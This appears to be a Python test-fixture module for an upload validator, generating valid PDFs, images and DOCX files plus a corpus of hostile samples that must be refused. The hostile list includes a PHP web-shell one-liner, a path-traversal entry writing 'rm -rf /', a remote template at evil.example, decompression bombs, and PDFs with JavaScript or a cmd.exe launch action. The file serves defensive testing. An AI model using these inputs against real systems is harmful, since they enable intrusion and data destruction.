"""Upload samples built at test time: real files of each accepted type, and a hostile corpus.

Nothing here is real malware: the EICAR string is the anti-virus industry's harmless test
signature, and every "executable" is a few header bytes.
"""

import io
import zipfile

import pypdf
from PIL import Image
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
DOCX_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
DOCX_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCX_DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Why I want to take part</w:t></w:r></w:p></w:body></w:document>"
)


def pdf(
    *,
    pages: int = 1,
    javascript: str = "",
    launch: bool = False,
    attachment: bytes = b"",
    password: str = "",
) -> bytes:
    writer = pypdf.PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=200, height=200)
    if javascript:
        action = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject(javascript),
            }
        )
        writer._root_object[NameObject("/OpenAction")] = action
    if launch:
        action = DictionaryObject(
            {
                NameObject("/S"): NameObject("/Launch"),
                NameObject("/F"): TextStringObject("cmd.exe"),
            }
        )
        writer._root_object[NameObject("/OpenAction")] = action
    if attachment:
        writer.add_attachment("payload.exe", attachment)
    if password:
        writer.encrypt(password)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def image(fmt: str = "PNG", size: tuple[int, int] = (16, 12)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (11, 61, 107)).save(buffer, fmt)
    return buffer.getvalue()


def docx(
    extra: dict[str, bytes | str] | None = None,
    *,
    content_types: str = DOCX_CONTENT_TYPES,
    document_rels: str = "",
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", DOCX_RELS)
        archive.writestr("word/document.xml", DOCX_DOCUMENT)
        if document_rels:
            archive.writestr("word/_rels/document.xml.rels", document_rels)
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return buffer.getvalue()


def zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", DOCX_CONTENT_TYPES)
        archive.writestr("word/document.xml", DOCX_DOCUMENT)
        archive.writestr("word/media/filler.xml", b"\0" * (20 * 1024 * 1024))
    return buffer.getvalue()


def png_bomb() -> bytes:
    """A PNG of 20,000 x 20,000 pixels (400 megapixels) in a few kilobytes."""
    buffer = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(buffer, "PNG")
    return buffer.getvalue()


MINIMAL_PDF = pdf()
PNG = image("PNG")
JPEG = image("JPEG")
DOCX = docx()

ACCEPTED = [
    ("cv.pdf", MINIMAL_PDF, "application/pdf"),
    ("photo.png", PNG, "image/png"),
    ("photo.jpg", JPEG, "image/jpeg"),
    ("essay.docx", DOCX, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("two-pages.pdf", pdf(pages=2), "application/pdf"),
]

_REMOTE_TEMPLATE = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    '.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.'
    'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)

# (name shown to the server, bytes, what it is). Every one must be refused.
HOSTILE = [
    ("cv.pdf", b"%PDF-1.4\nThis is only text pretending to be a PDF.\n", "text with a PDF header"),
    ("cv.pdf", MINIMAL_PDF + b"<html><script>alert(1)</script></html>", "PDF + appended HTML"),
    ("cv.pdf", MINIMAL_PDF + DOCX, "PDF + appended ZIP"),
    ("photo.png", PNG + b"<html><script>alert(1)</script></html>", "PNG + appended HTML"),
    ("photo.png", PNG + DOCX, "PNG + appended ZIP"),
    ("photo.jpg", JPEG + DOCX, "JPEG + appended ZIP"),
    ("cv.pdf", pdf(javascript="app.alert('x');"), "PDF with JavaScript"),
    ("cv.pdf", pdf(launch=True), "PDF with a launch action"),
    ("cv.pdf", pdf(attachment=b"MZ\x90\x00"), "PDF with an embedded file"),
    ("cv.pdf", pdf(password="secret"), "encrypted PDF"),
    ("cv.pdf", MINIMAL_PDF[: len(MINIMAL_PDF) // 2], "truncated PDF"),
    ("essay.docx", zip_bomb(), "DOCX zip bomb"),
    ("essay.docx", docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}), "DOCX with macros"),
    (
        "essay.docx",
        docx(
            content_types=DOCX_CONTENT_TYPES.replace(
                "document.main+xml", "document.macroEnabled.main+xml"
            )
        ),
        "DOCM content type",
    ),
    ("essay.docx", docx({"word/activeX/activeX1.bin": b"\x00"}), "DOCX with ActiveX"),
    (
        "essay.docx",
        docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
        "DOCX with an OLE object",
    ),
    ("essay.docx", docx(document_rels=_REMOTE_TEMPLATE), "DOCX with a remote template"),
    ("essay.docx", docx({"../../evil.sh": "rm -rf /"}), "ZIP path traversal"),
    ("essay.docx", docx({"word/eicar.txt": EICAR}), "DOCX holding EICAR"),
    ("eicar.pdf", EICAR, "EICAR test file"),
    ("cv.pdf", b"%PDF-1.4\n" + EICAR + b"\n%%EOF\n", "PDF header + EICAR"),
    ("photo.png", png_bomb(), "PNG decompression bomb"),
    ("photo.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "PNG header only"),
    (
        "photo.jpg",
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64 + b"\xff\xd9",
        "JPEG header only",
    ),
    ("cv.pdf", b"<html><body><script>alert(1)</script></body></html>", "HTML renamed .pdf"),
    (
        "photo.png",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "SVG renamed .png",
    ),
    ("cv.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200, "Windows executable"),
    ("cv.pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 200, "Linux executable"),
    ("cv.pdf", b"<?php system($_GET['c']); ?>", "PHP script"),
    ("essay.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 200, "old Word .doc"),
    ("essay.docx", b"{\\rtf1\\ansi hello}", "RTF renamed .docx"),
    ("photo.png", b"GIF89a" + b"\x00" * 50, "GIF"),
    ("cv.pdf", b"", "empty file"),
]
